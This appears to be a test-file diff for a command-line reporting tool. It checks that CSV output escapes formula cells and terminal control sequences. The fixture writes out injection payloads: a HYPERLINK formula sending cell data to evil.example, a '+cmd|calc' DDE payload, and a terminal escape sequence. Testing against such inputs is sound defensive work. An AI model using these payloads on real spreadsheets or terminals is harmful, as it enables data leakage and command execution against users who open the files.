@@ -236,3 +236,33 @@ describe('names that print like other names (contract section 5)', () => {
     }
   });
 });
+
+describe('CSV from the service opens safely in a spreadsheet', () => {
+  const body = JSON.stringify({
+    status: 'success',
+    data: [
+      { app: '=HYPERLINK("http://evil.example/?"&A1,"open")', user: '+1+cmd|calc', note: '@SUM(A1)', dash: '-x', count: -5, text: 'x\u001b]0;owned\u0007y' },
+    ],
+  });
+
+  it('formula cells get a leading quote, numbers stay, escapes are written visibly (piped)', async () => {
+    await emu.faults([{ kind: 'wrong-shape', endpoint: 'report', body }]);
+    const r = await run(['report', '--type', 'application', '-o', 'csv']);
+    expect(r.exitCode, r.stderr).toBe(0);
+    const [header, row] = r.stdout.split('\r\n');
+    expect(header).toBe('app,user,note,dash,count,text');
+    expect(row).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'+1+cmd|calc,'@SUM(A1),'-x,-5,x\\u001b]0;owned\\u0007y`);
+    expect(r.stdout).not.toContain('\u001b');
+  });
+
+  it('--csv-raw writes the cells as received; it goes with -o csv only', async () => {
+    await emu.faults([{ kind: 'wrong-shape', endpoint: 'report', body }]);
+    const r = await run(['report', '--type', 'application', '-o', 'csv', '--csv-raw']);
+    expect(r.exitCode, r.stderr).toBe(0);
+    expect(r.stdout).toContain('"=HYPERLINK(');
+    expect(r.stdout).toContain('x\u001b]0;owned\u0007y');
+    const json = await run(['report', '--type', 'application', '-o', 'json', '--csv-raw']);
+    expect(json.exitCode).toBe(2);
+    expect(json.stderr).toContain('--csv-raw goes with -o csv');
+  });
+});
